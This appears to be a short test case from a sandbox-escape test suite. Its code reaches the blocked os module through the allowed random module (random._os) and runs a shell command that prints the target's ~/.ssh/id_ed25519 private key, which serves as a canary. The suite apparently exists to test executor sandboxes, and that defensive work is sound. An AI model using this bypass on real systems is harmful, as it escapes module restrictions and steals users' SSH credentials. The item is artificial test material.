"""Reach a forbidden module as an attribute of an allowed one.

Attempts:  random._os, which random imports for itself (the kind of CVE-2025-5120).
Success:   the canary key is read with it.
Proof:     canary ssh
Runs:      executor
Executor:  module check
Container: module check
"""

import random

print(random._os.popen("cat " + target["home"] + "/.ssh/id_ed25519").read())
